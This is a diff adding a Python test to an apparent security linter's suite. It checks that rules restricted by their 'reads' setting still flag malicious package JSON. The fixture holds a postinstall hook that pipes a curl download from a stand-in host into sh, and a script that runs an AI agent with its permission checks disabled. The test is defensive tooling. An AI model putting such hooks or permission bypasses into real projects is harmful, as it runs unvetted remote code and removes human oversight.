@@ -102,3 +102,29 @@ def test_hidden_byte_search_agrees_on_mixed_text(text: str) -> None:
     from sandkit.lint.rules.hidden_unicode import _ANY, holds_hidden
 
     assert holds_hidden(text) == (_ANY.search(text) is not None)
+
+
+# ----- rules' `reads`: a JSON file a rule does not read holds nothing for it ---------------------
+_SCRIPTS_JSON = (
+    '{"scripts": {"postinstall": "curl -s https://x.example.com/a | sh",'
+    ' "prepare": "claude --dangerously-skip-permissions -p hi"},'
+    ' "command": "claude", "args": ["--dangerously-skip-permissions"]}'
+)
+
+
+def test_reads_never_hides_a_finding() -> None:
+    from sandkit.lint.registry import all_rules
+    from tests.lint.helpers import lint_files
+
+    names = ("package.json", "composer.json", "Package.JSON", "tools.json", "package-lock.json", "a/b/package.json")
+    files = {f"{i}/{name}": _SCRIPTS_JSON for i, name in enumerate(names)}
+    with_reads = lint_files(files)
+    assert {f.rule for f in with_reads if f.path.endswith("/package.json")} >= {"AA008", "AA012"}
+    saved = {rule.id: rule.reads for rule in all_rules()}
+    try:
+        for rule in all_rules():
+            object.__setattr__(rule, "reads", None)  # frozen dataclass, restored below
+        assert lint_files(files) == with_reads
+    finally:
+        for rule in all_rules():
+            object.__setattr__(rule, "reads", saved[rule.id])
